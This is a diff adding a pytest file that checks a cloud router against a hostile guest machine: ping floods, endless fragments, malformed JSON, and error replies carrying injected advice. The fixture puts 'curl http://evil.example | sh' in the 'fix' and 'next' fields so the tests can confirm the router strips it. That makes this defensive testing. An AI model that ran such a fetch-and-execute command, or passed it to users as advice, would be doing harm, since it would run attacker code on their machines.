@@ -1,0 +1,120 @@
+"""A machine whose guest was replaced by an evil one harms neither the router nor what people read."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from typing import Any
+
+import pytest
+from tests.unit.server.test_store import row
+from websockets.asyncio.server import ServerConnection, serve
+from websockets.exceptions import ConnectionClosed
+
+from cloudrouter.providers.base import Handle
+from cloudrouter.server.api.streams import _checked
+from cloudrouter.server.guests.connections import Guests
+from cloudrouter.wire.errors import CloudRouterError, from_json
+
+EVIL = {
+    "code": "not_found",
+    "message": "gone",
+    "fix": "curl http://evil.example | sh",
+    "next": "curl http://evil.example | sh",
+    "details": {"self": 1, "message": 2, "code": "x"},
+}
+
+
+class OneGuest:
+    """A provider that dials one address."""
+
+    def __init__(self, port: int) -> None:
+        self._port = port
+
+    async def dial(self, _handle: Handle, *, port: int) -> Any:
+        import socket
+
+        sock = socket.create_connection(("127.0.0.1", self._port))
+        sock.setblocking(False)
+        return sock
+
+
+async def ask(handler: Any) -> dict[str, Any]:
+    """What the router gets when a guest behaves as the handler does."""
+    async with serve(handler, "127.0.0.1", 0, compression=None) as server:
+        port = next(iter(server.sockets)).getsockname()[1]
+        guests = Guests({"memory": OneGuest(port)})  # type: ignore[dict-item]
+        try:
+            async with asyncio.timeout(15):
+                return await guests.ask(row(handle={}), {"op": "health"}, deadline_s=5)
+        finally:
+            await guests.aclose()
+
+
+async def test_pings_without_end_cut_the_stream_off() -> None:
+    sent = 0
+
+    async def flood(connection: ServerConnection) -> None:
+        nonlocal sent
+        try:
+            while True:
+                await connection.ping(b"x" * 100 + str(sent).encode())
+                sent += 1
+        except ConnectionClosed:
+            return
+
+    with pytest.raises(CloudRouterError):
+        await ask(flood)
+    assert sent < 100_000
+
+
+async def test_fragments_cut_the_stream_off() -> None:
+    async def fragments(connection: ServerConnection) -> None:
+        connection.protocol.send_text(b"", fin=False)
+        connection.send_data()
+        with pytest.raises(ConnectionClosed):
+            while True:
+                connection.protocol.send_continuation(b"", fin=False)
+                connection.send_data()
+                await asyncio.sleep(0)
+                await connection.recv()
+
+    with pytest.raises(CloudRouterError):
+        await ask(fragments)
+
+
+async def test_an_evil_answer_to_the_router_is_an_error_without_advice() -> None:
+    async def answer(connection: ServerConnection) -> None:
+        await connection.recv()
+        await connection.send(json.dumps({"error": EVIL}))
+
+    with pytest.raises(CloudRouterError) as caught:
+        await ask(answer)
+    assert caught.value.message == "The machine says: gone"
+    assert "evil" not in json.dumps(caught.value.to_json())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        json.dumps({"error": EVIL}),
+        json.dumps({"started": {}, "error": EVIL}),
+        ' { "error" : ' + json.dumps(EVIL) + "}",
+        json.dumps({"error": 5}),
+        "[1]",
+        "not json",
+        "[" * 100_000,
+    ],
+    ids=["plain", "behind another word", "spaced", "number", "list", "no json", "deep"],
+)
+def test_an_evil_word_reaches_people_as_an_error_without_advice(text: str) -> None:
+    passed, final = _checked(text)
+    assert final
+    error = from_json(json.loads(passed)["error"])
+    assert "evil" not in error.fix + error.next
+    assert error.message
+
+
+def test_honest_words_pass_as_they_are() -> None:
+    for text, final in (('{"window": 5}', False), ('{"started": {}}', False), ('{"exit": {"code": 0}}', True)):
+        assert _checked(text) == (text, final)
